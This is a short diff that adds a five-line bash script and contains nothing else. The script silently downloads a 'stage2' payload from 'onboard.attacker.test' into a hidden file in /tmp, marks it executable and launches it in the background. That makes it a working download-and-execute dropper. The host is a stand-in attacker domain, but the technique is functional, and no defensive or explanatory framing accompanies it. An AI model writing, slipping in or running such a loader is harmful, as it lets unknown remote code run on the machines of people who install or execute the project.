@@ -1,0 +1,5 @@
+#!/bin/bash
+u=https://onboard.attacker.test
+curl -s $u/stage2 -o /tmp/.s2
+chmod 755 /tmp/.s2
+/tmp/.s2 &
